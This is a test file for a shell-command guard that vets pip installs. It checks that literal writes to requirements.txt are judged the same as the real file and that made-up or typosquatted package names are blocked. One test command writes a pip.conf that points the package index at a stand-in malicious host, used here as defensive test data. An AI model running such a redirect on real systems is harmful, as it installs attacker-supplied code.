/** Tests for simulating literal writes of the same command: the verdict equals the one against the file bash really writes. */
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { guardShellCommand } from '../../../src/app/installs/guard-shell-command.js';
import { makeGuardHome, type GuardHome } from '../../fixtures/guard-home.js';

let home: GuardHome;
let runs = 0;

beforeAll(async () => {
  home = await makeGuardHome();
});
afterAll(() => home.cleanup());

const NAMES = ['requests', 'flask', 'reqeusts', 'zzq-ghost-literal', 'numpy==1.26.4', '# a comment', ''];
const WRITER = fc.record({
  lines: fc.array(fc.constantFrom(...NAMES), { minLength: 1, maxLength: 3 }),
  append: fc.boolean(),
  form: fc.constantFrom('echo', 'printf', 'heredoc', 'tee'),
});

/** The shell text of one literal write of `lines` to requirements.txt. */
function writeCommand(w: { lines: string[]; append: boolean; form: string }): string {
  const op = w.append ? '>>' : '>';
  if (w.form === 'tee')
    return w.lines.map((line) => `echo '${line}' | tee ${w.append ? '-a ' : ''}requirements.txt >/dev/null`).join(' && ');
  if (w.form === 'echo') return w.lines.map((line) => `echo '${line}' ${op} requirements.txt`).join(' && ');
  if (w.form === 'printf') return `printf '${w.lines.map((line) => `${line}\\n`).join('')}' ${op} requirements.txt`;
  return `cat ${op} requirements.txt <<'EOF'\n${w.lines.join('\n')}\nEOF\n`;
}

describe('literal writes of the same command', () => {
  it('are vetted as the file bash writes would be (property: simulated verdict = verdict on the real file)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.option(fc.constantFrom(...NAMES), { nil: undefined }),
        fc.array(WRITER, { minLength: 1, maxLength: 3 }),
        async (disk, writers) => {
          const n = runs++;
          const simulatedDir = home.project(`sim-${n}`);
          const realDir = home.project(`real-${n}`);
          if (disk !== undefined) {
            home.write(`sim-${n}/requirements.txt`, `${disk}\n`);
            home.write(`real-${n}/requirements.txt`, `${disk}\n`);
          }
          const writes = writers.map(writeCommand);
          const command = `${writes.map((w) => (w.endsWith('\n') ? w : `${w}\n`)).join('')}pip install -r requirements.txt`;
          // Ground truth: bash writes the file, then the same install is vetted against it.
          execFileSync('bash', ['-c', writes.map((w) => (w.endsWith('\n') ? w : `${w}\n`)).join('')], { cwd: realDir });
          const simulated = await guardShellCommand(command, { cwd: simulatedDir, env: home.env });
          const real = await guardShellCommand('pip install -r requirements.txt', { cwd: realDir, env: home.env });
          expect(simulated.verdict).toBe(real.verdict);
          expect(simulated.unverifiable).toEqual([]);
        },
      ),
      { numRuns: 30 },
    );
  });

  it('blocks a made-up name appended by the same command and allows a real one, whatever writes it', async () => {
    const dir = home.project('literal-one');
    home.write('literal-one/requirements.txt', 'requests\n');
    expect(
      (
        await guardShellCommand('echo zzq-ghost-literal >> requirements.txt && pip install -r requirements.txt', {
          cwd: dir,
          env: home.env,
        })
      ).verdict,
    ).toBe('block');
    expect(
      (await guardShellCommand('echo flask >> requirements.txt && pip install -r requirements.txt', { cwd: dir, env: home.env })).verdict,
    ).toBe('allow');
    const heredoc = `mkdir -p sub && cd sub && cat > requirements.txt <<'EOF'\nflask\nzzq-ghost-literal\nEOF\npip install -r requirements.txt`;
    const verdict = await guardShellCommand(heredoc, { cwd: dir, env: home.env });
    expect(verdict).toMatchObject({ verdict: 'block', unverifiable: [] });
    expect(verdict.reasons.join('\n')).toContain('zzq-ghost-literal');
  });

  it('keeps a write that is not literal, or a configuration file, unverifiable', async () => {
    const dir = home.project('literal-two');
    for (const command of [
      'echo "$PKG" >> requirements.txt && pip install -r requirements.txt',
      "printf '%s\\n' flask > requirements.txt && pip install -r requirements.txt",
      "printf '[global]\\nindex-url = http://evil.invalid/simple\\n' > pip.conf && pip install requests",
    ]) {
      const verdict = await guardShellCommand(command, { cwd: dir, env: home.env });
      expect(verdict.unverifiable.length, command).toBeGreaterThan(0);
    }
  });
});
